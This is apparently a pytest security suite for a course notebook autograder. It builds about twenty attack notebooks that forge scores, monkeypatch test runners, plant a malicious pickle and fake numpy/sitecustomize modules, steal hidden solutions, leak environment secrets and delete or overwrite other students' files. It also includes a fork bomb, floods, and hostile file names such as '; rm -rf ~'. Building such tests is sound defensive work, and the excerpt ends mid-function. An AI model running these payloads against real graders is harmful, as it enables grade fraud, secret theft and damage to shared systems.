"""Attack suite for the grader (issue 12): a dishonest student controls every byte of a notebook.

One module-scoped batch grades, with ``assignments/tools/grade.py`` in ONE ``grade_folder`` call,
honest controls (the solution notebook, the untouched student notebook, an answer that returns
zeros) next to ~20 attack notebooks and ~11 hostile file names, all for assignment
``01_mlp_backprop`` (NumPy only, fast). Each attack is extra code cells added to a generated
notebook; the attacker knows the real absolute paths (repository, build folder, autograder zip,
solution and master notebooks, submissions, output folder, the venv) and writes them into its code
as literals. The tests then prove, per attack class, that

- the attack scores what the honest notebook scores: an attack added to the BLANK notebook scores 0
  (like the blank), an attack that is harmless to a correct SOLUTION keeps full marks (like the
  solution);
- it touched nothing outside its own folder (repository, venv, build folder, other students'
  submissions and feedback, home, /tmp, and a "drop" folder no sandboxed process can see);
- the batch went on and the gradebook is intact.

Every assertion can fail: the comment at each attack says what an unprotected grader produced
(measured with the otter-run grader this replaced, which ran the hidden tests in the student's own
kernel). Against such a grader the attacks really write into the repository, the venv and the home
folder and leave processes behind; the fixture undoes that afterwards (it kills every process
carrying this run's marker and removes the marker files and lines), then the tests fail.

Attack classes: 1 runner patching · 2 results forging · 3 reference patching · 4 reading hidden
files · 5 feedback leaks (hidden-test text, the grader's environment, other names, hidden-test
inputs) · 6 cross-student writes · 7 repository, build and network · 8 processes outliving the
grade · 9 memory, output, file and process floods, and a reply bomb on the grader's channel ·
10 hostile names; plus a time-out, a file that is not a notebook and a link to the solution.
``grade_folder`` runs in a child process so that the peak memory of the grading processes can be
measured (``wait4``) apart from pytest's.

Needs bubblewrap (the grader's sandbox): skipped when ``bwrap`` is missing, except in CI
(``CI`` set), where it must run. ``COURSE_ATTACK_TIMEOUT`` sets the per-submission time limit
(default 60 s; the endless loop costs exactly this).
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import sysconfig
import tempfile
import textwrap
import threading
import time
import traceback
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from course_lib.environment import repository_root
from grading_tools import load_tool

ROOT = repository_root()
TOOLS = ROOT / "assignments" / "tools"
ASSIGNMENT = "01_mlp_backprop"
QUESTIONS = {"q1", "q2", "q3"}
#: the user's environment, read before the unit-test isolation fixture clears the mirror variable
_ORIGINAL_ENV = dict(os.environ)
#: seconds one submission may run (the endless-loop notebook costs exactly this)
TIMEOUT = float(os.environ.get("COURSE_ATTACK_TIMEOUT", "60"))
#: no file the grader writes under its output folder may be larger (the 200 MB floods must be capped)
MAX_OUTPUT_FILE_BYTES = 5 * 2**20
#: unique per run: in attack file names, process command lines and environments, planted files
MARKER = "atk" + secrets.token_hex(6)
#: a variable of the grader's environment no student may ever see (passed to grade_folder's ``env``)
SECRET_NAME = "COURSE_GRADER_SECRET"
SECRET = "s3cr3t-" + secrets.token_hex(16)
SITE_PACKAGES = Path(sysconfig.get_paths()["purelib"])
HOME = Path.home()

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None and not os.environ.get("CI"),
    reason="the grader's sandbox needs bubblewrap (`sudo apt install bubblewrap`); CI installs it")


build_tool = load_tool("build", prefix="attack_suite")


# --- the attacks --------------------------------------------------------------------------------
# Each attack is (base notebook, {answer name: new source}, cells after `import numpy as np`
# ("early", before the grader.check cells), cells appended at the end). Attack code starts with
# PRELUDE: the absolute paths as literals (`_A`) and a few helpers every attacker would write.

PRELUDE = '''
_A = {constants!r}
def _write(path, text, mode="w"):
    try:
        with open(path, mode) as handle:
            handle.write(text)
        return True
    except Exception:
        return False
def _read(path, limit=2_000_000):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except Exception:
        return ""
def _daemon(code):
    """Double fork + setsid: a process that leaves the kernel's session and process group."""
    import os, sys
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", code + "\\n# " + _A["marker"]])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
'''

#: wrong answers of the right shapes (every test compares values, so they score 0 honestly: the
#: control `00_control_zero_answers`); the attacks below try to make them pass
ZERO_ANSWERS = {
    "forward": '''
def forward(X, W1, b1, W2, b2):
    import numpy as np
    X = np.asarray(X, dtype=float)
    z, Z1 = np.zeros(X.shape[0]), np.zeros((X.shape[0], np.shape(W1)[1]))
    return z, {"X": X, "Z1": Z1, "A1": Z1, "logits": z}
''',
    "backward": '''
def backward(y, W2, cache):
    import numpy as np
    d, h = np.shape(cache["X"])[1], np.shape(cache["Z1"])[1]
    return {"W1": np.zeros((d, h)), "b1": np.zeros(h), "W2": np.zeros((h, 1)), "b2": np.zeros(1)}
''',
    "numerical_gradient": '''
def numerical_gradient(f, x, eps=1e-6):
    import numpy as np
    return np.zeros(np.shape(x))
''',
}

# 1. runner patching. Unprotected: otter ran the tests in this kernel, so every case "passed": 7/7.
RUNNER_PATCH = '''
import otter
from otter.test_files import abstract_test, exception_test
from otter.test_files.abstract_test import TestCaseResult
def _all_pass(self, global_environment):
    self.test_case_results = [TestCaseResult(test_case=tc, message="passed", passed=True)
                              for tc in self.test_cases]
exception_test.ExceptionTestFile.run = _all_pass
exception_test.test_case.call_func = lambda self, global_environment: None
abstract_test.TestFile.passed_all = property(lambda self: True)
abstract_test.TestFile.score = property(lambda self: self.possible)
otter.Notebook.check = lambda self, *args, **kwargs: None
otter.Notebook.check_all = lambda self, *args, **kwargs: None
'''

# 2a. results forging through pickle/json. Unprotected: the kernel pickled the results the grader
# unpickled and trusted, "possible" included: 6000/6000 on a 7-point assignment.
PICKLE_FORGE = '''
import dataclasses, json, pickle
from otter.test_files.abstract_test import TestCaseResult
def _forge(obj):
    try:
        for test_file in getattr(obj, "results", {}).values():
            test_file.test_cases = [dataclasses.replace(tc, points=1000) for tc in test_file.test_cases]
            test_file.test_case_results = [TestCaseResult(test_case=tc, message="passed", passed=True)
                                           for tc in test_file.test_cases]
            test_file._score = None
    except Exception:
        pass
    return obj
def _forge_json(obj):
    if isinstance(obj, dict):
        out = {k: _forge_json(v) for k, v in obj.items()}
        for key in ("score", "total", "possible"):
            if isinstance(out.get(key), (int, float)):
                out[key] = 1000.0
        for key in ("failed_public", "failed_hidden"):
            if key in out:
                out[key] = 0
        if "passed" in out:
            out["passed"] = True
        return out
    if isinstance(obj, list):
        return [_forge_json(v) for v in obj]
    return obj
_real = pickle.dump, pickle.dumps, json.dump, json.dumps
pickle.dump = lambda obj, *a, **k: _real[0](_forge(obj), *a, **k)
pickle.dumps = lambda obj, *a, **k: _real[1](_forge(obj), *a, **k)
json.dump = lambda obj, *a, **k: _real[2](_forge_json(obj), *a, **k)
json.dumps = lambda obj, *a, **k: _real[3](_forge_json(obj), *a, **k)
'''

# 2b. forged result files: result.json / results.json / results.pkl (the .pkl runs code when
# unpickled: it writes into the drop folder) in the working folder and every folder of the output,
# written once and again by a daemon for 60 s. Unprotected: 3000/3000 (the daemon's result.json
# won), and a grader that unpickles such a file runs the attacker's code.
RESULTS_FILES = '''
import json, os, pickle
class _Bomb:
    def __reduce__(self):
        return (exec, ("open(%r, 'w').write('unpickled')" % (_A["drop"] + "/unpickled-" + _A["marker"]),))
_questions = {q: {"score": 1000.0, "total": 1000.0, "failed_public": 0, "failed_hidden": 0,
                  "n_tests": 2, "public_output": []} for q in ("q1", "q2", "q3")}
_forged = json.dumps({"status": "graded", "note": "", "questions": _questions, "cell_errors": []})
_targets = [os.getcwd(), _A["out"], _A["out"] + "/work", _A["out"] + "/work/" + _A["assignment"],
            _A["out"] + "/work/" + _A["assignment"] + "/" + _A["self"]]
for _folder in _targets:
    _write(_folder + "/result.json", _forged)
    _write(_folder + "/results.json", _forged)
    try:
        with open(_folder + "/results.pkl", "wb") as _handle:
            pickle.dump(_Bomb(), _handle)
    except Exception:
        pass
_daemon("import time\\nend = time.time() + 60\\nwhile time.time() < end:\\n"
        "    for p in %r:\\n"
        "        try:\\n            open(p + '/result.json', 'w').write(%r)\\n"
        "        except OSError:\\n            pass\\n"
        "    time.sleep(0.02)" % (_targets[1:], _forged))
'''

# 3a. reference patching in the kernel. Unprotected: the tests' np.allclose said True to zeros: 6/7.
NUMPY_PATCH = '''
import numpy as np, numpy.testing
_true = lambda *args, **kwargs: True
np.allclose = np.array_equal = np.array_equiv = _true
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = np.testing.assert_almost_equal = lambda *args, **kwargs: None
'''

# 3b. the hidden tests' references (course_lib.foundations) patched to return zeros, and torch's
# comparisons. Unprotected: the hidden cases compared zeros with zeros: 2.5/7.
REFERENCE_PATCH = '''
import sys
import numpy as np
from course_lib import foundations
def _zero_forward(params, X, *args, **kwargs):
    X = np.asarray(X, dtype=float)
    z, Z1 = np.zeros(X.shape[0]), np.zeros((X.shape[0], np.shape(params["W1"])[1]))
    return z, {"X": X, "Z1": Z1, "A1": Z1, "logits": z}
def _zero_backward(params, cache, y, *args, **kwargs):
    return {key: np.zeros(np.shape(value)) for key, value in params.items()}
for _name, _module in list(sys.modules.items()):
    if _name.startswith("course_lib") and _module is not None:
        if callable(getattr(_module, "forward", None)):
            _module.forward = _zero_forward
        if callable(getattr(_module, "backward", None)):
            _module.backward = _zero_backward
try:
    import torch, torch.testing
    torch.allclose = torch.equal = lambda *args, **kwargs: True
    torch.testing.assert_close = lambda *args, **kwargs: None
except Exception:
    pass
'''

# 3c. fake `numpy.py` / `sitecustomize.py` where a later Python process might import them: the
# working folder, the output and submissions folders, the build folder, the grader's own folder
# (the first entry of a script's sys.path), and a .pth + sitecustomize.py in the venv. Each fake
# module records in the drop folder that it ran, then patches numpy.allclose.
# Unprotected: the fakes were written, and every later grader process imported them.
FAKE_MODULES = '''
import os
_fake_numpy = """# planted by a submission (%(marker)s)
import importlib, os, sys
try:
    open(%(drop)r + "/numpy-%(marker)s-" + str(os.getpid()), "w").write(" ".join(sys.argv))
except OSError:
    pass
_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["numpy"]
_real = importlib.import_module("numpy")
_real.allclose = lambda *a, **k: True
sys.modules["numpy"] = _real
""" % {"marker": _A["marker"], "drop": _A["drop"]}
_fake_site = """# planted by a submission (%(marker)s)
try:
    import os, sys
    open(%(drop)r + "/sitecustomize-%(marker)s-" + str(os.getpid()), "w").write(" ".join(sys.argv))
except Exception:
    pass
""" % {"marker": _A["marker"], "drop": _A["drop"]}
for _folder in [os.getcwd(), _A["out"], _A["out"] + "/work", _A["out"] + "/work/" + _A["assignment"],
                _A["folder"], _A["assignment_build"] + "/autograder", _A["tools"]]:
    _write(_folder + "/numpy.py", _fake_numpy)
    _write(_folder + "/sitecustomize.py", _fake_site)
_write(_A["site"] + "/sitecustomize.py", _fake_site)
_write(_A["site"] + "/zz_" + _A["marker"] + ".pth",
       "import os; exec(%r)\\n" % ("try:\\n open(%r, 'w').close()\\nexcept Exception:\\n pass"
                                  % (_A["drop"] + "/pth-" + _A["marker"])))
'''

# both hidden-file attacks collect solution cells of any notebook they can read into `_stolen`
HARVEST_SOLUTIONS = '''
import json
_stolen = {}
def _harvest(path):
    try:
        cells = json.loads(_read(path, 50_000_000)).get("cells", [])
    except Exception:
        return
    for cell in cells:
        source = cell.get("source", "")
        source = "".join(source) if isinstance(source, list) else str(source)
        for name in ("forward", "backward", "numerical_gradient"):
            if f"def {name}(" in source and "BEGIN SOLUTION" in source and name not in _stolen:
                _stolen[name] = source
'''

# 4a. reading hidden files by their absolute paths; the answer cells exec the stolen solution cells.
# Unprotected: the solution notebook was readable: 7/7.
READ_HIDDEN = HARVEST_SOLUTIONS + '''
import glob, re, zipfile
for _path in [_A["solution"], _A["master"]]:
    _harvest(_path)
_hidden_text = [_read(p) for p in glob.glob(_A["assignment_build"] + "/autograder/tests/*.py")]
try:
    with zipfile.ZipFile(_A["zip"]) as _archive:
        _hidden_text += [_archive.read(n).decode() for n in _archive.namelist() if n.endswith(".py")]
except Exception:
    pass
_grader_source = _read(_A["grade_py"])
'''

# 4b. `find /`: walk the file system (bounded to 15 s) for solution notebooks, exec what it finds.
# Unprotected: the generated solution notebook under /tmp was found: 7/7.
WALK_HIDDEN = HARVEST_SOLUTIONS + '''
import os, time
_deadline = time.time() + 15
_skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib32", "/lib64", "/bin", "/sbin", "/etc", "/boot",
         "/run", "/snap", "/var/lib", "/var/cache"}
_skip_names = {"site-packages", "dist-packages", "node_modules", ".git", "__pycache__", "datasets", ".venv"}
_seen = set()
for _top in [os.getcwd(), "/tmp", "/work", "/home", "/root", "/srv", "/opt", "/mnt", "/"]:
    for _dirpath, _dirnames, _filenames in os.walk(_top):
        if time.time() > _deadline or len(_stolen) == 3:
            break
        if _dirpath in _seen:
            _dirnames[:] = []
            continue
        _seen.add(_dirpath)
        _dirnames[:] = [d for d in _dirnames if d not in _skip_names and os.path.join(_dirpath, d) not in _skip]
        for _name in _filenames:
            if _name.endswith(".ipynb"):
                _harvest(os.path.join(_dirpath, _name))
'''

STOLEN_ANSWERS = {name: f'exec(_stolen[{name!r}], globals()) if {name!r} in _stolen else None'
                  for name in ("forward", "backward", "numerical_gradient")}

# 5a. feedback leaks: gather every test file it can read (hidden parts first), the environment
# (secret-looking names first) and the other students' names; print it, raise it from every answer
# (public-test failure messages reach the feedback) and from a cell (cell errors reach the note).
# Unprotected: the hidden tests sat in the kernel's working folder and the grader's environment was
# the kernel's: both, and the list of submissions, landed in the feedback file and the gradebook.
LEAK_GATHER = '''
import glob, os, zipfile
_texts = []
for _pattern in [os.getcwd() + "/**/*.py", _A["assignment_build"] + "/**/tests/*.py", "/autograder/**/*.py"]:
    for _path in sorted(glob.glob(_pattern, recursive=True))[:200]:
        _texts.append(_read(_path, 200_000))
try:
    with zipfile.ZipFile(_A["zip"]) as _archive:
        _texts += [_archive.read(n).decode() for n in _archive.namelist() if n.endswith(".py")]
except Exception:
    pass
_secretish = [f"{k}={v}" for k, v in os.environ.items()
              if any(w in k.upper() for w in ("SECRET", "TOKEN", "KEY", "PASS", "MIRROR"))]
_names = []
for _folder in [_A["folder"], _A["submissions"], _A["out"] + "/feedback/" + _A["assignment"], ".."]:
    try:
        _names += sorted(os.listdir(_folder))
    except Exception:
        pass
_hidden = [t[t.find("hidden=True"):] for t in _texts if "hidden=True" in t]
_LEAK = "\\n".join(["ENV* " + "; ".join(_secretish), "NAMES " + " | ".join(_names),
                    *("HIDDEN " + h for h in _hidden), "ENV " + repr(dict(os.environ)), *_texts])
_CHUNKS = [_LEAK[i:i + 1200] for i in range(0, len(_LEAK), 1200)] or ["nothing found"]
_calls = [0]
def _leak(*args, **kwargs):
    _calls[0] += 1
    raise RuntimeError(_CHUNKS[(_calls[0] - 1) % len(_CHUNKS)])
print(_LEAK)
import sys
print(_LEAK, file=sys.stderr)
'''
LEAK_ANSWERS = {"forward": "def forward(*args, **kwargs):\n    _leak()",
                "backward": "def backward(*args, **kwargs):\n    _leak()",
                "numerical_gradient": "def numerical_gradient(*args, **kwargs):\n    _leak()"}
LEAK_RAISE = 'raise RuntimeError(_LEAK[:20000])'

# 5b. the hidden tests' INPUTS: every answer records the arrays it is called with and raises them
# all, newest first, so a public test that runs after a hidden one carries the hidden inputs into
# the feedback. Unprotected: q2's public test ran after q1's hidden test; its message showed them.
HIDDEN_ARGS = '''
_seen_calls = []
def _record(name, args, kwargs):
    import numpy as np
    parts = []
    for value in list(args) + list(kwargs.values()):
        values = list(value.values()) if isinstance(value, dict) else [value]
        for item in values:
            try:
                flat = np.asarray(item, dtype=float).ravel()
            except Exception:
                continue
            parts.append(" ".join(repr(float(v)) for v in flat[:4]))
    _seen_calls.append(f"{name}(" + "; ".join(parts) + ")")
    raise RuntimeError("inputs seen so far: " + " | ".join(reversed(_seen_calls)))
'''
HIDDEN_ARGS_ANSWERS = {
    "forward": "def forward(*args, **kwargs):\n    _record('forward', args, kwargs)",
    "backward": "def backward(*args, **kwargs):\n    _record('backward', args, kwargs)",
    "numerical_gradient": "def numerical_gradient(*args, **kwargs):\n    _record('numerical_gradient', args, kwargs)",
}

# 6. cross-student writes: forge the earlier student's feedback and result, the gradebook, replace
# the later student's submission, then delete the whole submissions folder.
# Unprotected: all of it stuck; the batch stopped at the later student's missing notebook (no
# gradebook at all).
CROSS_STUDENT = '''
import glob, os, shutil
_forged = "FORGED " + _A["marker"]
_victim = _A["out"] + "/feedback/" + _A["assignment"] + "/" + _A["victim_earlier"] + ".md"
for _path in glob.glob(_A["out"] + "/feedback/*/*.md") + [_victim]:
    _write(_path, _forged)
for _path in glob.glob(_A["out"] + "/work/*/*/result.json"):
    _write(_path, _forged)
_write(_A["out"] + "/gradebook.csv", "assignment,student,question,score,total,status,note\\n" + _forged + "\\n")
_write(_A["folder"] + "/" + _A["victim_later"] + ".ipynb", "{}")
try:
    os.replace(_A["folder"] + "/" + _A["victim_later"] + ".ipynb", _A["folder"] + "/" + _A["victim_later"] + ".bak")
except Exception:
    pass
shutil.rmtree(_A["submissions"], ignore_errors=True)
'''

# 7a. repository, venv, home and /tmp writes (marker files and comment lines: proof, not damage).
# Unprotected: every write stuck (the grader ran as the instructor, with the repository writable).
REPO_WRITES = '''
_write(_A["root"] + "/PWNED-" + _A["marker"], "pwned")
_write(_A["grade_py"], "\\n# PWNED " + _A["marker"] + "\\n", "a")
_write(_A["course_lib"] + "/foundations.py", "\\n# PWNED " + _A["marker"] + "\\n", "a")
_write(_A["site"] + "/PWNED-" + _A["marker"] + ".pth", "# PWNED\\n")
_write(_A["home"] + "/PWNED-" + _A["marker"], "pwned")
_write("/tmp/PWNED-" + _A["marker"], "pwned")
_write(_A["drop"] + "/direct-" + _A["marker"], "pwned")
'''

# 7b. the build folder: rewrite the autograder zip and the test files so every case passes.
# Unprotected: every later submission (the blank control too) scored 7/7.
BUILD_TAMPER = '''
import glob, io, os, re, zipfile
def _always_pass(text):
    return re.sub(r"(\\ndef test_\\w+\\([^)]*\\):\\n)(?:    .*\\n|\\n)*", r"\\1    pass\\n", text + "\\n")
try:
    _buffer = io.BytesIO()
    with zipfile.ZipFile(_A["zip"]) as _src, zipfile.ZipFile(_buffer, "w") as _dst:
        for _name in _src.namelist():
            _data = _src.read(_name)
            if _name.endswith(".py") and "tests/" in _name:
                _data = _always_pass(_data.decode()).encode()
            _dst.writestr(_name, _data)
    with open(_A["zip"], "wb") as _handle:
        _handle.write(_buffer.getvalue())
except Exception:
    pass
for _path in glob.glob(_A["assignment_build"] + "/*/tests/*.py"):
    _write(_path, _always_pass(_read(_path)))
'''

# 8. processes outliving the grade: a `sleep` in its own session, a Python sleeper, and a
# double-forked daemon writing marker files every 0.5 s for 15 minutes.
# Unprotected: the grader killed only the kernel's process group; all three lived on, the daemon
# wrote into the repository and the output folder.
PROCESSES = '''
import os, subprocess, sys
subprocess.Popen(["sleep", "1000"], start_new_session=True,
                 env=dict(os.environ, ATTACK_MARKER=_A["marker"]))
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)  # " + _A["marker"]],
                 start_new_session=True)
_paths = [os.getcwd() + "/daemon-" + _A["marker"], _A["root"] + "/daemon-" + _A["marker"],
          _A["out"] + "/daemon-" + _A["marker"], _A["drop"] + "/daemon-" + _A["marker"],
          _A["home"] + "/daemon-" + _A["marker"]]
_daemon("import time\\npaths = %r\\nend = time.time() + 900\\nwhile time.time() < end:\\n"
        "    for p in paths:\\n        try:\\n            open(p, 'w').write(str(time.time()))\\n"
        "        except OSError:\\n            pass\\n    time.sleep(0.5)" % (_paths,))
'''

# 9a. 4 GiB, guarded, before the answers. If the allocation SUCCEEDS there is no memory limit, and
# the attacker spoils its own answers (`spoil=True`: each answer cell ends with `if _SPOIL: del ...`)
# so that this shows as a lost score. Unprotected: allocated (no limit): 0/7.
MEMORY_PROBE = '''
import numpy as np
try:
    _big = np.ones(4 * 2**30, dtype=np.uint8)
except MemoryError:
    _big = None
_SPOIL = _big is not None
del _big
'''
# 9b. 4 GiB, unguarded, on the blank notebook: 0 like the blank, and the batch goes on.
MEMORY_FLOOD = '''
import numpy as np
_big = np.ones(4 * 2**30, dtype=np.uint8)
print(int(_big[::4096].sum()))
'''
# 9c. 200 MB of output: half through Python's streams, half straight to file descriptors 1 and 2
# (what a subprocess would inherit). Unprotected: a 200 MB log under the output folder.
OUTPUT_FLOOD = '''
import os, sys
_chunk = "x" * 2**20 + "\\n"
for _ in range(100):
    sys.stdout.write(_chunk)
sys.stdout.flush()
for _ in range(50):
    for _fd in (1, 2):
        try:
            os.write(_fd, _chunk.encode())
        except OSError:
            break
'''
# 9d. a 200 MB file and a 10 GB sparse file in its working folder (guarded): full marks, and
# nothing that large kept under the output folder.
FILE_FLOOD = '''
_chunk = b"y" * 2**20
try:
    with open("flood.bin", "wb") as _handle:
        for _ in range(200):
            _handle.write(_chunk)
except OSError:
    pass
try:
    with open("sparse.bin", "wb") as _handle:
        _handle.truncate(10 * 2**30)
except OSError:
    pass
'''
# 9e. a fork bomb, bounded by its own loop: up to 2,000 children (each execs `sleep` with the
# marker in its environment), stopping at the first refusal; it then ends them. If all 2,000 were
# allowed there is no process limit, and the attacker spoils its own answers (as 9a) so that this
# shows as a lost score. Unprotected: 2,000 processes (only the user's own limit bounds them): 0/7.
FORK_BOMB = '''
import os, signal
_children = []
for _ in range(2000):
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            os.execve("/bin/sleep", ["sleep", "1000"], {"ATTACK_MARKER": _A["marker"]})
        finally:
            os._exit(0)
    _children.append(_pid)
print("children started:", len(_children))
for _pid in _children:
    try:
        os.kill(_pid, signal.SIGKILL)
        os.waitpid(_pid, 0)
    except OSError:
        pass
_SPOIL = len(_children) == 2000
'''

# 9f. a reply bomb on the channel: the worker's first reply to the grader is replaced by 48 MB of
# `{"ok": [[], [], ...]}` (16 million empty lists, each ~60 bytes once parsed: ~2 GiB in the process
# that reads it). The frame format is the one `channel.py` documents (8-byte length + UTF-8 JSON),
# readable to the student in the sandbox; a grader without that channel makes this a no-op.
# Unprotected: the trusted scoring process, which has no memory limit, grew past 2 GiB.
CHANNEL_BOMB = '''
try:
    import os, channel
    _real_send = channel.PipeTransport.send
    _bombed = []
    def _send(self, message):
        if _bombed or not (isinstance(message, dict) and "ok" in message):
            return _real_send(self, message)
        _bombed.append(True)
        _n = 16 * 2**20
        _data = b'{"ok":[' + b"[]," * (_n - 1) + b"[]]}"
        _view = memoryview(len(_data).to_bytes(8, "big") + _data)
        while _view:
            _view = _view[os.write(self.write_fd, _view[:1 << 16]):]
    channel.PipeTransport.send = _send
except Exception:
    pass
'''

# 7c. the network: connect to a listener the test runs on this machine's loopback interface and send
# it the marker (where stolen material would go). Unprotected: the listener got the connection.
NETWORK = '''
import socket
try:
    with socket.create_connection(("127.0.0.1", _A["port"]), timeout=3) as _connection:
        _connection.sendall(("exfiltrated " + _A["marker"]).encode())
except Exception:
    pass
'''

ENDLESS_LOOP = "while True:\n    pass"


@dataclass(frozen=True)
class Attack:
    """One submission of the batch: ``expect`` is "full" (every question full marks), "zero"
    (every question 0), "full_or_rejected" / "zero_or_rejected" (or refused with a reason)."""

    stem: str
    base: str  # "solution" | "blank" | "bytes" | "link"
    expect: str
    answers: dict = field(default_factory=dict)
    early: tuple = ()
    end: tuple = ()
    first: str = ""  # code put in front of the first code cell after the otter init cell
    spoil: bool = False  # each answer cell ends with `if _SPOIL: del <answer>` (a probe's verdict)


HOSTILE_NAMES = ['o"brien', "$(touch PWNED)", "; rm -rf ~", '=HYPERLINK("x.example","click")', "-rf",
                 "new\nline", "Zoë Ångström 日本語 ✓", "n" * 200, ".hidden", ".."]

ATTACKS = [
    # honest controls: first, between and last
    Attack("00_control_blank", "blank", "zero"),
    Attack("00_control_zero_answers", "blank", "zero", answers=ZERO_ANSWERS),
    Attack("01_victim_earlier", "solution", "full"),
    # 1 runner patching
    Attack("10_runner_patch", "blank", "zero", early=(RUNNER_PATCH,)),
    # 2 results forging
    Attack("20_pickle_forge", "blank", "zero", answers=ZERO_ANSWERS, early=(PICKLE_FORGE,)),
    Attack("21_result_files", "blank", "zero", end=(RESULTS_FILES,)),
    # 3 reference patching
    Attack("30_numpy_patch", "blank", "zero", answers=ZERO_ANSWERS, early=(NUMPY_PATCH,)),
    Attack("31_reference_patch", "blank", "zero", answers=ZERO_ANSWERS, early=(REFERENCE_PATCH,)),
    Attack("32_fake_modules", "blank", "zero", answers=ZERO_ANSWERS, early=(FAKE_MODULES,)),
    # 4 reading hidden files
    Attack("40_read_hidden", "blank", "zero", answers=STOLEN_ANSWERS, early=(READ_HIDDEN,)),
    Attack("41_walk_hidden", "blank", "zero", answers=STOLEN_ANSWERS, early=(WALK_HIDDEN,)),
    # 5 feedback leaks
    Attack("50_leak_feedback", "blank", "zero", answers=LEAK_ANSWERS, early=(LEAK_GATHER,),
           end=(LEAK_RAISE,)),
    Attack("51_leak_hidden_inputs", "blank", "zero", answers=HIDDEN_ARGS_ANSWERS, early=(HIDDEN_ARGS,)),
    # the trusted side's memory: a reply that explodes when parsed
    Attack("53_channel_bomb", "blank", "zero", early=(CHANNEL_BOMB,)),
    # 6 cross-student writes
    Attack("60_cross_student", "blank", "zero", end=(CROSS_STUDENT,)),
    # 7 repository and build writes
    Attack("70_repo_writes", "blank", "zero", end=(REPO_WRITES, NETWORK)),
    Attack("71_build_tamper", "blank", "zero", end=(BUILD_TAMPER,)),
    # 8 processes
    Attack("80_processes", "solution", "full", end=(PROCESSES,)),
    # 9 floods
    Attack("90_memory_probe", "solution", "full", early=(MEMORY_PROBE,), spoil=True),
    Attack("91_memory_flood", "blank", "zero", end=(MEMORY_FLOOD,)),
    Attack("92_output_flood", "solution", "full", end=(OUTPUT_FLOOD,)),
    Attack("93_file_flood", "solution", "full", end=(FILE_FLOOD,)),
    Attack("94_fork_bomb", "solution", "full", early=(FORK_BOMB,), spoil=True),
    # not an attack on the others: the time limit, a broken file, a link to the solution
    Attack("95_endless_loop", "solution", "zero", first=ENDLESS_LOOP),
    Attack("96_not_a_notebook", "bytes", "zero_or_rejected"),
    # a link to the instructor's solution (a zip a student hands in can hold a symbolic link).
    # Unprotected: the grader followed it and graded the solution: 7/7.
    Attack("97_link_to_solution", "link", "zero_or_rejected"),
    # 10 hostile names: a correct solution under each; `o_brien` (a blank) must not share a key
    # with `o"brien`
    *(Attack(name, "solution", "full_or_rejected") for name in HOSTILE_NAMES),
    # graded after every attack: a blank (o_brien, sorted after the hostile names that start with
    # digits and punctuation) and a solution the cross-student attack tries to replace
    Attack("o_brien", "blank", "zero"),
    Attack("zzz_victim_later", "solution", "full"),
]


# --- building the notebooks ---------------------------------------------------------------------

def _code_cells(nb):
    return [cell for cell in nb.cells if cell.cell_type == "code"]


def _attack_notebook(attack: Attack, solution, blank, constants: dict):
    nb = nbformat.reads(nbformat.writes(solution if attack.base == "solution" else blank), as_version=4)
    prelude = PRELUDE.format(constants=dict(constants, self=attack.stem)).strip() + "\n"
    for name, source in attack.answers.items():
        cell = next(c for c in _code_cells(nb) if f"def {name}(" in c.source)
        cell.source = source.strip()
    if attack.spoil:
        for name in ("forward", "backward", "numerical_gradient"):
            cell = next(c for c in _code_cells(nb) if f"def {name}(" in c.source)
            cell.source += f"\nif globals().get('_SPOIL'):\n    del {name}"
    cells = list(nb.cells)
    numpy_at = next(i for i, c in enumerate(cells)
                    if c.cell_type == "code" and c.source.strip() == "import numpy as np")
    for offset, code in enumerate(attack.early, start=1):
        cells.insert(numpy_at + offset, nbformat.v4.new_code_cell(prelude + textwrap.dedent(code).strip()))
    for code in attack.end:
        cells.append(nbformat.v4.new_code_cell(prelude + textwrap.dedent(code).strip()))
    if attack.first:
        cell = _code_cells(nb)[1]  # the first one after otter's init cell
        cell.source = attack.first + "\n" + cell.source
    nb.cells = cells
    return nb


def _tree_hashes(folder: Path) -> dict[str, str]:
    """``{relative path: sha256}`` of every file under ``folder`` (links by their target)."""
    found = {}
    if not folder.exists():
        return found
    for path in sorted(folder.rglob("*")):
        relative = str(path.relative_to(folder))
        if "__pycache__" in path.parts:  # bytecode Python writes when the grader imports its modules
            continue
        if path.is_symlink():
            found[relative] = "link:" + os.readlink(path)
        elif path.is_file():
            found[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def _names(folder: Path) -> set[str]:
    try:
        return set(os.listdir(folder))
    except OSError:
        return set()


def _marked_processes() -> list[tuple[int, str]]:
    """Live processes whose command line or environment holds :data:`MARKER` (zombies have
    neither, so an ended process is not listed)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        for part in ("cmdline", "environ"):
            try:
                data = (entry / part).read_bytes()
            except OSError:
                continue
            if MARKER.encode() in data:
                try:
                    cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
                except OSError:
                    cmdline = "?"
                found.append((int(entry.name), cmdline[:160]))
                break
    return found


def _out_state(out: Path) -> dict[str, tuple[int, int]]:
    state = {}
    for path in out.rglob("*"):
        try:
            info = path.lstat()
        except OSError:
            continue
        state[str(path.relative_to(out))] = (info.st_size, info.st_mtime_ns)
    return state


@dataclass
class Batch:
    paths: dict
    rows: list
    error: str | None
    seconds: float
    log: list
    before: dict
    after: dict
    alive_after: list
    still_changing: list
    planted: list
    hidden_lines: set
    hidden_inputs: set
    peak_rss: int  # bytes: the largest resident set of the grading process and everything it waited for
    received: list  # what the loopback listener received


def _hidden_lines(zip_path: Path, public_text: str) -> set[str]:
